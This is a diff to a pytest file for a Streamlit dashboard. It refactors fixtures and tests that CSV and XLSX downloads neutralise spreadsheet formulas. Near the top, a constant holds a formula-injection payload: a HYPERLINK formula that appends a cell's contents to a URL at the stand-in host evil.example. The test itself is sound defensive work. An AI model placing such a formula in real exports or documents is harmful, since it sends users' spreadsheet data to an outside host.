@@ -13,11 +13,9 @@ import sys
 
 import openpyxl
 import pytest
-from streamlit.testing.v1 import app_test
 
-from tests.apptest_support import run
+from tests.apptest_support import download, run, serve
 from tests.dashboard_support import HOSTILE_KEY, HOSTILE_UEI, ROOT, _ingest, curated_env, hostile_file
-from tests.test_dashboard_targets import RecordingStorage, download
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 INERT = "'" + FORMULA
@@ -36,11 +34,7 @@ def formula_home(tmp_path_factory):
 
 @pytest.fixture
 def formula_app(formula_home, monkeypatch):
-    for name, value in curated_env(formula_home).items():
-        monkeypatch.setenv(name, value)
-    monkeypatch.setenv("KG_STORE", "embedded")
-    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", RecordingStorage)
-    return formula_home
+    return serve(formula_home, monkeypatch)
 
 
 def csv_cells(data: bytes) -> list[str]:
@@ -49,11 +43,11 @@ def csv_cells(data: bytes) -> list[str]:
 
 def test_dashboard_csv_and_xlsx_downloads_neutralize_formulas(formula_app):
     targets = run("targets", agency="ICE", today="2025-01-01")
+    targets.button(key="t_prepare").click().run()
     for label in ("Ranking with citations (CSV)", "Awards behind the ranking (CSV)"):
         cells = csv_cells(download(targets, label))
         assert INERT in cells, label
         assert not any(cell.startswith(("=", "+", "@")) for cell in cells), label
-    targets.button(key="t_xlsx_prepare").click().run()
     book = openpyxl.load_workbook(io.BytesIO(download(targets, "Ranking, awards and calendar (XLSX)")))
     values = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
     assert INERT in values and FORMULA not in values
